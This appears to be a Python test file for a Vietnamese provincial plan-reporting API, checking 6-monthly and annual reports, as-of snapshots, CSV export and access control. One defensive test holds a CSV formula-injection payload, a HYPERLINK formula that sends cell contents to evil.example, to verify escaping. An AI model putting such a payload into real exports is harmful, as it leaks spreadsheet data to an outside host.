"""The 6-monthly and annual reports (issue 7, item 3, and its done-when): GET /v1/reports/{period}
for a 6-month or annual reporting period, computed as of `?as_of=` (default now) by the rule of
PRODUCT.md ("Reports"): measurements of the indicator periods inside the report period that were
approved by then; tasks as they stood at the period's end, or at as_of when earlier; the progress
updates made within that window; pilot sites as they stood at as_of; the reports handed in by
then. The same as_of always gives the same report. The content, in the decision's order: each
objective's indicators with value, numerator, denominator and attainment; task status counts
per lead agency (V.1-15) and the overdue tasks; pilot-model progress against target; reporting
completeness; the updates. `?table=` gives one table; CSV (`format=csv` or `Accept: text/csv`)
one table per request, UTF-8 with a byte-order mark. Anyone signed in reads reports.

The history is back-filled into the last Vietnamese 6-month period that has ended (issue 18:
each fact is dated when it happened, and recorded today), in a plan, a province, a model type and
agencies of each test's own, so that every number is computed here by hand; the expected values
never come from the server. No test depends on the day of the year it runs on.
"""

import datetime

import pytest

from checks import assert_problem
from indicators import approved, create_indicator, create_target, enter, moved
from plans import (PROVINCE_TZ, agency, archived, create_plan, create_section, create_task,
                   post_update, task_path, today)
from reference import create_agency
from reporting import (BARE_COLUMNS, TABLES, assert_csv_equals, attainment, calendar_half,
                       calendar_year, cells, create_obligation, create_site, create_type, due_of,
                       make_province, moment, move, previous_vn_half, report, report_csv,
                       report_path, row_of, submitted, vn_half)
from settings import DEMO_USERS


def province_day(as_of):
    """The date in An Giang of an RFC 3339 UTC moment."""
    t = datetime.datetime.fromisoformat(as_of.replace("Z", "+00:00"))
    return t.astimezone(PROVINCE_TZ).date()


def days_ago(n):
    return (today() - datetime.timedelta(days=n)).isoformat()


FAR = (datetime.date.today() + datetime.timedelta(days=400)).isoformat()
SECTIONS = [("II.3.1", "objective", "Tăng cường tuyên truyền, phổ biến, giáo dục pháp luật"),
            ("II.3.3", "objective", "Xây dựng và thực hiện thí điểm các mô hình"),
            ("V.1", "responsibility", "Sở Lao động - Thương binh và Xã hội"),
            ("V.6", "responsibility", "Sở Y tế")]


def make_plan(coordinator):
    """A plan of the test's own, from 2016 to the end of next year (so that a report of any
    period from 2016 to now ends within its life), with two objectives and two responsibility
    items; returns (plan, {section code: title})."""
    plan = create_plan(coordinator, period_start="2016-01-01",
                       period_end=f"{today().year + 1}-12-31")
    titles = {}
    for seq, (code, kind, title) in enumerate(SECTIONS, start=1):
        titles[code] = create_section(coordinator, plan["id"], code, seq=seq, kind=kind,
                                      title=title)["title"]
    return plan, titles


def without_target(rows):
    """Report indicator rows without their `target` object (checked on its own)."""
    return [{k: v for k, v in r.items() if k != "target"} for r in rows]


def indicator_row(ind, titles, unit, period, numerator, denominator, value, reporting, expected,
                  target_value, attained):
    return {"section": ind["section"], "section_title": titles[ind["section"]],
            "indicator": ind["code"], "name": ind["name"], "unit": unit, "period": period,
            "numerator": numerator, "denominator": denominator, "value": value,
            "units_reporting": reporting, "units_expected": expected, "target_operator": ">=",
            "target_value": target_value, "attainment": attained}


def task_row(agency_code, section, total, not_started=0, in_progress=0, done=0, cancelled=0,
             overdue=0):
    return {"agency": agency_code, "section": section, "total": total,
            "not_started": not_started, "in_progress": in_progress, "done": done,
            "cancelled": cancelled, "overdue": overdue}


def overdue_row(task):
    return {"id": task["id"], "section": task["section"], "source_clause": task["source_clause"],
            "title": task["title"], "status": task["status"],
            "percent_done": task["percent_done"], "occurrence": None,
            "due_date": task["due_date"], "due_basis": None,
            "lead": [a["agency"] for a in task["agencies"] if a["role"] == "lead"]}


def update_row(update):
    return {k: update[k] for k in ("id", "task", "occurred_on", "created_at", "late_entry",
                                   "occurrence", "note", "percent_done", "status", "agency",
                                   "author")}


def first_update(client, task):
    """The update a task created with a status or percent was given."""
    items, _ = client.walk(task_path(task["id"], "updates"), {}, limit=10)
    return items[0]


def check_csv(api, period, params, expected, only=None):
    """Each table of the report as CSV says what `expected` ({table: rows}) says; for tables in
    `only` ({table: predicate}) the rows the predicate keeps."""
    for table in TABLES:
        rows = report_csv(api, period, table, **params)
        if only and table in only:
            rows = [r for r in rows if only[table](cells(r, table))]
        assert_csv_equals(rows, expected[table], table)


# --- done when: a small history, and its report as of two moments --------------------------------

def test_done_when_the_report_of_a_small_history_is_right_as_of_two_moments(
        api, admin, coordinator):
    """The last 6-month period that has ended, back-filled: every fact dated within it, recorded
    today. The report as of a first moment, and as of a second after more was recorded."""
    period, start, end = previous_vn_half(vn_half(today())[0])
    half, half_start, half_end = calendar_half(period)
    year, year_start, year_end = calendar_year(period)
    late = today() > datetime.date.fromisoformat(due_of(end))  # recorded after P was due

    def within(n):
        """The n-th day of the period."""
        return (start + datetime.timedelta(days=n)).isoformat()

    def before_end(n):
        return (end - datetime.timedelta(days=n)).isoformat()

    province, tree = make_province(admin, districts=2, communes=2)
    (d1, (c11, c12)), (d2, (c21, c22)) = tree.items()
    plan, titles = make_plan(coordinator)
    pid = plan["id"]
    model = create_type(coordinator, target_count=2, target_unit="district")["code"]

    # the indicators of the plan: a share of communes (6-monthly, VN), a share of percentages
    # (calendar half-years), a sum (yearly) and the pilot-site registry (yearly)
    share = create_indicator(coordinator, plan=pid, source_clause="II.3.1.a",
                             period_type="vn_six_monthly")
    parts = create_indicator(coordinator, plan=pid, source_clause="II.3.1.b", level="district",
                             value_type="percentage", period_type="six_monthly")
    total = create_indicator(coordinator, plan=pid, source_clause="II.3.3.a", level="district",
                             value_type="count", rollup="sum", period_type="yearly")
    pilot = create_indicator(coordinator, plan=pid, source_clause="II.3.3.b(1)",
                             level="district", value_type="count", rollup="pilot_registry",
                             pilot_model_type=model, period_type="yearly",
                             reporting_agencies=["SLDTBXH"])
    for ind, section in ((share, "II.3.1"), (parts, "II.3.1"), (total, "II.3.3"),
                         (pilot, "II.3.3")):
        ind["section"] = section
    create_target(coordinator, share["code"], period=period, value=75, rounding="ceil",
                  scope_unit=province)
    create_target(coordinator, parts["code"], period=half, value=65, rounding="exact",
                  scope_unit=province)
    create_target(coordinator, total["code"], period=year, value=10, rounding="exact",
                  scope_unit=province)
    create_target(coordinator, pilot["code"], period=year, value=2, rounding="exact",
                  unit_of_measure="district", scope_unit=province)

    # the tasks, each begun with the period and in its state from its 11th day
    def task(section, leads, status, percent, due, coordinates=(), **fields):
        return create_task(coordinator, pid, section=section, status=status,
                           percent_done=percent, due_date=due, start_date=start.isoformat(),
                           occurred_on=within(10),
                           agencies=[agency(a) for a in leads]
                           + [agency(a, "coordinate") for a in coordinates],
                           source_clause=f"{section}.x", **fields)

    t1 = task("V.1", ["SLDTBXH"], "not_started", 0, FAR, ["SYT"],
              title="Tổng hợp báo cáo 6 tháng")
    t2 = task("V.1", ["SLDTBXH"], "in_progress", 40, before_end(1), title="Tập huấn cán bộ")
    t3 = task("V.6", ["SYT"], "not_started", 0, before_end(2), title="Khám sức khỏe định kỳ")
    t4 = task("V.6", ["SYT"], "done", 100, before_end(1), title="Cấp phát tài liệu")
    t5 = task("II.3.1", ["UBND-883"], "cancelled", 10, before_end(3), ["SLDTBXH"],
              title="Hội thi tuyên truyền")
    t6 = task("V.1", ["UBND-883"], "in_progress", 50, FAR, title="Kiểm tra cơ sở kinh doanh")
    t7 = task("II.3.3", ["STP"], "not_started", 0, FAR, title="Rà soát văn bản")
    begun = [first_update(coordinator, t) for t in (t2, t4, t5, t6)]
    assert {u["occurred_on"] for u in begun} == {within(10)}
    u1 = post_update(coordinator, t1["id"], {"note": "Đã thu thập số liệu các huyện",
                                             "percent_done": 30, "status": "in_progress",
                                             "occurred_on": within(20)})
    assert u1.status_code == 201, u1.text
    u1 = u1.json()
    assert u1["late_entry"] is late

    # two pilot sites, planned from the period's first day, piloting from its second
    s1 = create_site(coordinator, model, d1, effective_on=within(0))
    s2 = create_site(coordinator, model, d2, effective_on=within(0))
    move(coordinator, s1["id"], "piloting", start_date=within(1), effective_on=within(1))
    move(coordinator, s2["id"], "piloting", start_date=within(1), effective_on=within(1))

    # measurements: three communes approved (two ran an activity), a fourth only submitted
    entered = {commune: approved(coordinator, coordinator, share["code"], commune, period, ran)
               for commune, ran in ((c11, True), (c12, True), (c21, False))}
    waiting = moved(coordinator, enter(coordinator, share["code"], c22, period, True)["id"],
                    "submit")
    approved(coordinator, coordinator, parts["code"], d1, half,
             {"numerator": 3, "denominator": 5})
    approved(coordinator, coordinator, total["code"], d1, year, 4)

    # the agencies' reports: the first received on the period's last day, the second not yet
    a1, a2 = (create_agency(admin)["code"] for _ in range(2))
    duty = create_obligation(coordinator, [a1, a2])
    submitted(coordinator, duty["code"], agency=a1, period=period,
              submitted_at=f"{end}T10:00:00+07:00")

    t_1 = moment()
    first = report(api, period, plan=pid, unit=province, as_of=t_1)

    # later: the fourth commune approved and the third un-approved, the second district's
    # numbers approved, one task done through its lead's update and another updated, a task
    # added and one archived, one site evaluated and the other stopped, a third site planned,
    # the second agency's report received — each dated within the period
    moved(coordinator, waiting["id"], "approve")
    moved(coordinator, entered[c21]["id"], "unapprove")
    approved(coordinator, coordinator, parts["code"], d2, half,
             {"numerator": 4, "denominator": 5})
    approved(coordinator, coordinator, total["code"], d2, year, 7)
    u2 = post_update(api.as_user("health.officer"), t3["id"],
                     {"note": "Hoàn thành", "percent_done": 100, "status": "done",
                      "occurred_on": within(30)})
    assert u2.status_code == 201, u2.text
    u3 = post_update(coordinator, t1["id"], {"note": "Dự thảo báo cáo", "percent_done": 60,
                                             "occurred_on": within(40)})
    assert u3.status_code == 201, u3.text
    u2, u3 = u2.json(), u3.json()
    t8 = task("V.6", ["SYT"], "not_started", 0, FAR, title="Tư vấn tại cộng đồng")
    archived(coordinator, task_path(t7["id"]))
    move(coordinator, s1["id"], "evaluated", evaluation_date=within(50), effective_on=within(50))
    move(coordinator, s2["id"], "stopped", effective_on=within(50))
    create_site(coordinator, model, d2, effective_on=within(50))
    submitted(coordinator, duty["code"], agency=a2, period=period,
              submitted_at=f"{end}T11:00:00+07:00")
    # and what happened after the period: not in its report
    after = post_update(coordinator, t6["id"], {"status": "done"})
    assert after.status_code == 201, after.text

    t_2 = moment()
    later = report(api, period, plan=pid, unit=province, as_of=t_2)

    # --- the report as of the first moment: none of the later changes -------------------------
    day = province_day(t_1)
    again = report(api, period, plan=pid, unit=province, as_of=t_1)
    assert again == first, "the same as_of gives the same report, before and after later changes"
    assert (first["period"]["id"], first["period"]["type"], first["period"]["start"],
            first["period"]["end"]) == (period, "vn_six_monthly", start.isoformat(),
                                        end.isoformat())
    assert (first["as_of"], first["plan"], first["unit"]) == (
        t_1, {"id": pid, "code": plan["code"], "title": plan["title"]}, province)

    two_sections = sorted([share, parts], key=lambda i: i["code"]) + sorted(
        [total, pilot], key=lambda i: i["code"])
    expected_1 = {
        share["code"]: indicator_row(share, titles, province, period, 2, 4, 50.0, 3, 4, 75,
                                     attainment(False, 50, 75, start, end, day)),
        parts["code"]: indicator_row(parts, titles, province, half, 3, 5, 60.0, 1, 2, 65,
                                     attainment(False, 60, 65, half_start, half_end, day)),
        total["code"]: indicator_row(total, titles, province, year, 4, None, 4, 1, 2, 10,
                                     attainment(False, 4, 10, year_start, year_end, day)),
        pilot["code"]: indicator_row(pilot, titles, province, year, 2, None, 2, 2, 2, 2,
                                     "achieved")}
    indicators_1 = [expected_1[i["code"]] for i in two_sections]
    assert without_target(first["indicators"]) == indicators_1
    targets = {r["indicator"]: r["target"] for r in first["indicators"]}
    assert (targets[share["code"]]["operator"], targets[share["code"]]["value"],
            targets[share["code"]]["required_units"]) == (">=", 75, 3), "75 % of 4 communes"
    assert targets[pilot["code"]]["unit_of_measure"] == "district"

    # each agency's row names the sections of the tasks it leads, in the plan's order
    tasks_1 = [task_row("SLDTBXH", "V.1", 2, in_progress=2, overdue=1),
               task_row("UBND-883", "II.3.1; V.1", 2, in_progress=1, cancelled=1),
               task_row("SYT", "V.6", 2, not_started=1, done=1, overdue=1),
               task_row("STP", "II.3.3", 1, not_started=1)]
    assert first["tasks"] == tasks_1
    overdue_1 = [overdue_row(t2), overdue_row(t3)]
    assert first["overdue"] == overdue_1
    pilots_1 = [{"model_type": model, "indicator": pilot["code"], "period": year, "sites": 2,
                 "districts": 2, "target_operator": ">=", "target_value": 2,
                 "target_unit": "district", "attainment": "achieved"}]
    assert first["pilots"] == pilots_1
    mine_1 = sorted([row_of(1, 1, on_time=1, agency=a1, period=period, late_entries=int(late)),
                     row_of(1, agency=a2, period=period)], key=lambda r: r["agency"])
    assert [r for r in first["completeness"] if r["agency"] in (a1, a2)] == mine_1
    updates_1 = sorted([update_row(u) for u in begun], key=lambda u: u["id"]) + [update_row(u1)]
    assert first["updates"] == updates_1
    status_1 = {t["id"]: (s, p) for t, s, p in (
        (t1, "in_progress", 30), (t2, "in_progress", 40), (t3, "not_started", 0),
        (t4, "done", 100), (t5, "cancelled", 10), (t6, "in_progress", 50),
        (t7, "not_started", 0))}
    assert {r["id"]: (r["status"], r["percent_done"]) for r in first["task_status"]} == status_1

    # --- the report as of the second moment: everything of the period -------------------------
    day = province_day(t_2)
    expected_2 = {
        share["code"]: indicator_row(share, titles, province, period, 3, 4, 75.0, 3, 4, 75,
                                     "achieved"),
        parts["code"]: indicator_row(parts, titles, province, half, 7, 10, 70.0, 2, 2, 65,
                                     "achieved"),
        total["code"]: indicator_row(total, titles, province, year, 11, None, 11, 2, 2, 10,
                                     "achieved"),
        pilot["code"]: indicator_row(pilot, titles, province, year, 1, None, 1, 1, 2, 2,
                                     attainment(False, 1, 2, year_start, year_end, day))}
    indicators_2 = [expected_2[i["code"]] for i in two_sections]
    assert without_target(later["indicators"]) == indicators_2
    tasks_2 = [task_row("SLDTBXH", "V.1", 2, in_progress=2, overdue=1),
               task_row("UBND-883", "II.3.1; V.1", 2, in_progress=1, cancelled=1),
               task_row("SYT", "V.6", 3, not_started=1, done=2)]
    assert later["tasks"] == tasks_2, "t6's being done after the period is not in it"
    overdue_2 = [overdue_row(t2)]
    assert later["overdue"] == overdue_2
    pilots_2 = [{**pilots_1[0], "sites": 1, "districts": 1,
                 "attainment": attainment(False, 1, 2, year_start, year_end, day)}]
    assert later["pilots"] == pilots_2
    mine_2 = sorted([row_of(1, 1, on_time=1, agency=a1, period=period, late_entries=int(late)),
                     row_of(1, 1, on_time=1, agency=a2, period=period, late_entries=int(late))],
                    key=lambda r: r["agency"])
    assert [r for r in later["completeness"] if r["agency"] in (a1, a2)] == mine_2
    updates_2 = sorted(updates_1 + [update_row(u2), update_row(u3)],
                       key=lambda u: (u["occurred_on"], u["id"]))
    assert later["updates"] == updates_2
    assert t8["id"] not in [o["id"] for o in later["overdue"]]

    # --- the same in CSV ------------------------------------------------------------------------
    mine = {"completeness": lambda c: c["agency"] in (a1, a2)}
    check_csv(api, period, {"plan": pid, "unit": province, "as_of": t_1},
              {"indicators": indicators_1, "tasks": tasks_1, "task_status": first["task_status"],
               "overdue": overdue_1, "pilots": pilots_1, "completeness": mine_1,
               "updates": updates_1, "funding": []}, mine)
    check_csv(api, period, {"plan": pid, "unit": province, "as_of": t_2},
              {"indicators": indicators_2, "tasks": tasks_2, "task_status": later["task_status"],
               "overdue": overdue_2, "pilots": pilots_2, "completeness": mine_2,
               "updates": updates_2, "funding": []}, mine)


def test_done_when_a_report_handed_in_late_shows_in_the_report_of_its_period(api, admin,
                                                                           coordinator):
    """The report of a 6-month period whose reports were due months ago, taken now: one report
    received 20 days after the period's end is late; one received two days after it is on
    time; a third is missing; both were recorded today, after they were due (late entries).
    Data of that period approved now counts (the report is as of now); a task that begins after
    the period's end is not in it, nor an update made now."""
    period, start, end = previous_vn_half(previous_vn_half(vn_half(today())[0])[0])
    province, tree = make_province(admin, districts=1, communes=2)
    [(district, (c1, c2))] = tree.items()
    plan, titles = make_plan(coordinator)
    share = create_indicator(coordinator, plan=plan["id"], source_clause="II.3.1.c",
                             period_type="vn_six_monthly")
    share["section"] = "II.3.1"
    create_target(coordinator, share["code"], period=period, value=75, rounding="ceil",
                  scope_unit=province)
    approved(coordinator, coordinator, share["code"], c1, period, True)
    approved(coordinator, coordinator, share["code"], c2, period, False)
    t = create_task(coordinator, plan["id"], section="V.1", due_date=None,
                    start_date=(end + datetime.timedelta(days=1)).isoformat())
    assert post_update(coordinator, t["id"], {"note": "x", "percent_done": 5}).status_code == 201
    a, b, c = (create_agency(admin)["code"] for _ in range(3))
    duty = create_obligation(coordinator, [a, b, c])
    late = submitted(coordinator, duty["code"], agency=a, period=period,
                     submitted_at=f"{end + datetime.timedelta(days=20)}T10:00:00+07:00")
    on_time = submitted(coordinator, duty["code"], agency=b, period=period,
                        submitted_at=f"{end + datetime.timedelta(days=2)}T10:00:00+07:00")
    due = (end + datetime.timedelta(days=6)).isoformat()
    assert (late["due"], late["on_time"], on_time["due"], on_time["on_time"]) == (
        due, False, due, True)
    assert late["late_entry"] and on_time["late_entry"]

    got = report(api, period, plan=plan["id"], unit=province)
    indicators = [indicator_row(share, titles, province, period, 1, 2, 50.0, 2, 2, 75,
                                "missed")]
    assert without_target(got["indicators"]) == indicators
    assert (got["tasks"], got["task_status"], got["overdue"], got["pilots"],
            got["updates"]) == ([], [], [], [], [])
    completeness = [row_of(1, 1, late=1, agency=a, period=period, late_entries=1),
                    row_of(1, 1, on_time=1, agency=b, period=period, late_entries=1),
                    row_of(1, agency=c, period=period)]
    completeness.sort(key=lambda r: r["agency"])
    assert [r for r in got["completeness"] if r["agency"] in (a, b, c)] == completeness
    check_csv(api, period, {"plan": plan["id"], "unit": province},
              {"indicators": indicators, "tasks": [], "task_status": [], "overdue": [],
               "pilots": [], "completeness": completeness, "updates": [], "funding": []},
              {"completeness": lambda r: r["agency"] in (a, b, c)})


# --- as of a moment -----------------------------------------------------------------------------

def test_an_annual_report_counts_the_yearly_reports_of_the_calendar_year(api, admin,
                                                                         coordinator):
    period = f"{vn_half(today())[0][:4]}VN"
    year = period[:4]
    plan, _ = make_plan(coordinator)
    a, b = (create_agency(admin)["code"] for _ in range(2))
    annual = create_obligation(coordinator, [a], frequency="yearly", period_type="vn_yearly")
    plans = create_obligation(coordinator, [b], frequency="yearly", period_type="yearly")
    submitted(coordinator, plans["code"], agency=b, period=year)
    got = report(api, period, plan=plan["id"], unit="89")
    assert got["period"]["type"] == "vn_yearly"
    assert [r for r in got["completeness"] if r["agency"] in (a, b)] == sorted(
        [row_of(1, agency=a, period=period), row_of(1, 1, on_time=1, agency=b, period=year)],
        key=lambda r: (r["period"] != period, r["agency"])), \
        "the annual reports of the period, then the yearly ones of the calendar year"
    assert annual["code"] != plans["code"]


def test_a_reporting_obligation_added_later_does_not_change_an_earlier_report(api, admin,
                                                                              coordinator):
    """The same as_of always gives the same report (PRODUCT.md, "Reports")."""
    period = vn_half(today())[0]
    plan, _ = make_plan(coordinator)
    as_of = moment()
    before = report(api, period, plan=plan["id"], unit="89", as_of=as_of)
    create_obligation(coordinator, [create_agency(admin)["code"]])
    assert report(api, period, plan=plan["id"], unit="89", as_of=as_of) == before


def test_an_indicator_added_later_does_not_change_an_earlier_report(api, coordinator):
    """The same as_of always gives the same report (PRODUCT.md, "Reports")."""
    period = vn_half(today())[0]
    plan, _ = make_plan(coordinator)
    as_of = moment()
    before = report(api, period, plan=plan["id"], unit="89", as_of=as_of)
    create_indicator(coordinator, plan=plan["id"], source_clause="II.3.1.a",
                     period_type="vn_six_monthly")
    assert report(api, period, plan=plan["id"], unit="89", as_of=as_of) == before


def test_as_of_defaults_to_now_and_is_answered_in_utc_to_the_microsecond(api, coordinator):
    period = vn_half(today())[0]
    plan, _ = make_plan(coordinator)
    before = datetime.datetime.now(datetime.timezone.utc)
    got = report(api, period, plan=plan["id"], unit="89")
    after = datetime.datetime.now(datetime.timezone.utc)
    assert len(got["as_of"]) == len("2026-11-28T10:00:00.123456Z") and got["as_of"][-1] == "Z"
    at = datetime.datetime.fromisoformat(got["as_of"].replace("Z", "+00:00"))
    assert before - datetime.timedelta(seconds=2) <= at <= after + datetime.timedelta(seconds=2)
    given = report(api, period, plan=plan["id"], unit="89", as_of="2026-07-01T08:00:00+07:00")
    assert given["as_of"] == "2026-07-01T01:00:00.000000Z"


def test_an_as_of_date_is_a_day_in_an_giang(api, coordinator):
    """Dates are the province's (Asia/Ho_Chi_Minh): a report as of 2026-07-01 is as the data
    stood on that day there — from its start (00:00 +07:00) or by its end (23:59:59 +07:00),
    not at midnight in Greenwich, seven hours into it."""
    plan, _ = make_plan(coordinator)
    got = report(api, "2026VNS1", plan=plan["id"], unit="89", as_of="2026-07-01")
    assert got["as_of"] in ("2026-06-30T17:00:00.000000Z", "2026-07-01T16:59:59.999999Z"), \
        got["as_of"]


@pytest.mark.parametrize("period, kind", [("2017VNS1", "vn_six_monthly"), ("2017VN", "vn_yearly"),
                                          ("2017S2", "six_monthly"), ("2017", "yearly")])
def test_a_report_covers_a_6_month_or_annual_period(api, coordinator, period, kind):
    plan, _ = make_plan(coordinator)
    assert report(api, period, plan=plan["id"], unit="89")["period"]["type"] == kind


@pytest.mark.parametrize("period", ["201703", "2017Q3", "2017VNS3", "17VN", "x"])
def test_a_monthly_quarterly_or_malformed_period_is_400(api, coordinator, period):
    plan, _ = make_plan(coordinator)
    assert_problem(api.get(report_path(period), params={"plan": plan["id"], "unit": "89"}), 400,
                   "invalid_parameter", "period")


@pytest.mark.parametrize("as_of", ["2999-01-01", "tomorrow", "2026-13-01"])
def test_an_as_of_in_the_future_or_malformed_is_400(api, coordinator, as_of):
    plan, _ = make_plan(coordinator)
    r = api.get(report_path("2017VN"), params={"plan": plan["id"], "unit": "89", "as_of": as_of})
    assert_problem(r, 400, "invalid_parameter", "as_of")


def test_a_districts_report_leaves_out_what_only_the_province_collects(api, coordinator):
    """A province-level indicator has no value for Long Xuyên: its report lists the district and
    commune indicators of the plan, the province's lists all three."""
    plan, _ = make_plan(coordinator)
    codes = {level: create_indicator(coordinator, plan=plan["id"], source_clause="II.3.1.a",
                                     level=level, period_type="yearly")["code"]
             for level in ("province", "district", "commune")}

    def listed(unit):
        return {row["indicator"] for row in report(api, "2017VN", plan=plan["id"],
                                                   unit=unit)["indicators"]}

    assert listed("89") == set(codes.values())
    assert listed("883") == {codes["district"], codes["commune"]}
    assert listed("30280") == {codes["commune"]}


def test_an_unknown_unit_is_400_naming_it(api, coordinator):
    plan, _ = make_plan(coordinator)
    assert_problem(api.get(report_path("2017VN"), params={"plan": plan["id"], "unit": "99999"}),
                   400, "invalid_parameter", "unit")


def test_with_several_plans_the_report_must_name_one(api, coordinator):
    plan, _ = make_plan(coordinator)
    assert_problem(api.get(report_path("2017VN"), params={"unit": "89"}), 400,
                   "invalid_parameter", "plan")
    assert_problem(api.get(report_path("2017VN"), params={"plan": 999999999, "unit": "89"}),
                   404, "not_found")
    assert report(api, "2017VN", plan=plan["id"], unit="89")["plan"]["id"] == plan["id"]


# --- one table, and CSV -------------------------------------------------------------------------

@pytest.mark.parametrize("table", TABLES)
def test_table_gives_that_table_alone(api, coordinator, table):
    plan, _ = make_plan(coordinator)
    whole = report(api, "2017VN", plan=plan["id"], unit="89", as_of="2020-01-01T00:00:00Z")
    one = api.json(report_path("2017VN"), {"plan": plan["id"], "unit": "89", "table": table,
                                           "as_of": "2020-01-01T00:00:00Z"})
    assert one == {table: whole[table]}


@pytest.mark.parametrize("table", TABLES)
def test_accept_text_csv_gives_the_same_csv_as_format_csv(api, coordinator, table):
    plan, _ = make_plan(coordinator)
    params = {"plan": plan["id"], "unit": "89", "as_of": "2026-01-01T00:00:00Z"}
    by_format = report_csv(api, "2025VN", table, **params)
    by_accept = report_csv(api, "2025VN", table, headers={"Accept": "text/csv"}, **params)
    assert by_accept == by_format


def test_csv_needs_one_known_table(api, coordinator):
    plan, _ = make_plan(coordinator)
    params = {"plan": plan["id"], "unit": "89"}
    assert_problem(api.get(report_path("2017VN"), params={**params, "format": "csv"}), 400,
                   "invalid_parameter", "table")
    assert_problem(api.get(report_path("2017VN"), params=params,
                           headers={"Accept": "text/csv"}), 400, "invalid_parameter", "table")
    assert_problem(api.get(report_path("2017VN"), params={**params, "table": "people"}), 400,
                   "invalid_parameter", "table")
    assert_problem(api.get(report_path("2017VN"), params={**params, "format": "ods"}), 400,
                   "invalid_parameter", "format")


def test_the_csv_keeps_vietnamese_text_and_quotes_what_needs_it(api, admin, coordinator):
    """A title with a comma, quotes and diacritics comes back as it was."""
    period = vn_half(today())[0]
    plan, _ = make_plan(coordinator)
    title = 'Tuyên truyền "phòng, chống mại dâm" tại xã Mỹ Hòa Hưng'
    t = create_task(coordinator, plan["id"], section="V.1", title=title, due_date=days_ago(1))
    [row] = report_csv(api, period, "overdue", plan=plan["id"], unit="89")
    got = cells(row, "overdue")
    assert (got["id"], got["title"], got["lead"]) == (str(t["id"]), title, "SLDTBXH")
    assert list(got) == BARE_COLUMNS["overdue"]


def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(api, coordinator):
    """Defect: report CSV cells were written raw, so a task's title or an update's note starting
    with =, +, -, @, TAB or CR reached a spreadsheet as a formula. Such a text cell now starts
    with an apostrophe (OWASP's advice), and numbers stay numbers."""
    period = vn_half(today())[0]
    plan, _ = make_plan(coordinator)
    link = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    t = create_task(coordinator, plan["id"], section="V.1", title="=1+2 tổ chức tập huấn",
                    due_date=days_ago(1))
    r = post_update(coordinator, t["id"], {"note": link, "percent_done": 5})
    assert r.status_code == 201, r.text
    for start in ("+", "-", "@", "\t"):
        r = post_update(coordinator, t["id"], {"note": f"{start}SUM(A1:A9)"})
        assert r.status_code == 201, r.text
    [overdue] = report_csv(api, period, "overdue", plan=plan["id"], unit="89")
    got = cells(overdue, "overdue")
    assert got["title"] == "'=1+2 tổ chức tập huấn"
    assert (got["percent_done"], got["id"]) == ("5", str(t["id"])), "numbers stay numbers"
    notes = [cells(row, "updates")["note"]
             for row in report_csv(api, period, "updates", plan=plan["id"], unit="89")]
    assert notes == ["'" + link] + [f"'{start}SUM(A1:A9)" for start in ("+", "-", "@", "\t")]
    as_json = report(api, period, plan=plan["id"], unit="89")
    assert [u["note"] for u in as_json["updates"]][0] == link, "the JSON keeps the text as it is"


# --- who reads reports --------------------------------------------------------------------------

@pytest.mark.parametrize("user", sorted(DEMO_USERS))
def test_anyone_signed_in_reads_reports(api, coordinator, user):
    plan, _ = make_plan(coordinator)
    client = api.as_user(user)
    assert report(client, "2017VN", plan=plan["id"], unit="89")["plan"]["id"] == plan["id"]
    assert report_csv(client, "2017VN", "tasks", plan=plan["id"], unit="89") == []


def test_a_report_needs_a_token(api):
    assert_problem(api.anonymous().get(report_path("2017VN")), 401, "unauthorized")
